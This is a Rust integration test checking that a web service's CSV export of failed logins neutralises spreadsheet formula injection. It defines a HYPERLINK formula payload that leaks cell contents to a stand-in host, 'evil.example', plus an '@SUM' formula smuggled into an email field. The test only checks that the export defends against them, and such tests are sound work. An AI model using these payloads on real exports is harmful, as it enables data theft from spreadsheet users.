//! The CSV export through the JSON API, read back as a spreadsheet would read it: what a client
//! typed or sent (an address, a User-Agent) never arrives as a formula.

mod support;

use axum::body::Body;
use http::{header, Request, StatusCode};
use services::ThrottlePolicy;
use storage::test_support::backends;
use support::{api_request, TestApp};

const FORMULA_AGENT: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
const FORMULA_ADDRESS: &str = "@SUM(1+1)@example.org";

async fn read_token(app: &TestApp, session: &str) -> String {
    let form = [
        ("name", "reporting"),
        ("scope", "read"),
        ("expires_in_days", "never"),
    ];
    let reply = app.call("create_api_token", Some(session), &form).await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);
    reply.json()["secret"].as_str().expect("secret").to_owned()
}

#[tokio::test]
async fn csv_export_neutralises_formulas_sent_by_clients() {
    for db in backends().await {
        let app = TestApp::new(db, ThrottlePolicy::default()).await;
        let admin = app.setup_admin().await;
        let token = read_token(&app, &admin).await;

        let form = [("email", FORMULA_ADDRESS), ("password", "wrong password")];
        let mut login = api_request("login", None, &form, "application/json");
        login.headers_mut().insert(
            header::USER_AGENT,
            FORMULA_AGENT.parse().expect("a valid header value"),
        );
        let failed = app.send(login).await;
        assert!(!failed.status.is_success(), "{}", failed.body);

        let export = Request::get("/api/v1/history/export.csv?action=login_failed")
            .header(header::AUTHORIZATION, format!("Bearer {token}"))
            .body(Body::empty())
            .expect("request");
        let reply = app.send(export).await;
        assert_eq!(reply.status, StatusCode::OK, "{}", reply.body);

        let mut reader = csv::Reader::from_reader(reply.body.as_bytes());
        let columns = reader.headers().expect("header row").clone();
        let column = |name: &str| columns.iter().position(|c| c == name).expect(name);
        let rows: Vec<csv::StringRecord> = reader
            .records()
            .collect::<Result<_, _>>()
            .expect("well-formed CSV");
        assert_eq!(rows.len(), 1, "{}: {}", app.db.backend, reply.body);
        let row = &rows[0];
        assert_eq!(&row[column("user_agent")], format!("'{FORMULA_AGENT}"));
        assert_eq!(&row[column("actor")], format!("'{FORMULA_ADDRESS}"));
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{}: {cell:?} would be a formula",
                app.db.backend
            );
        }
        app.db.cleanup().await;
    }
}
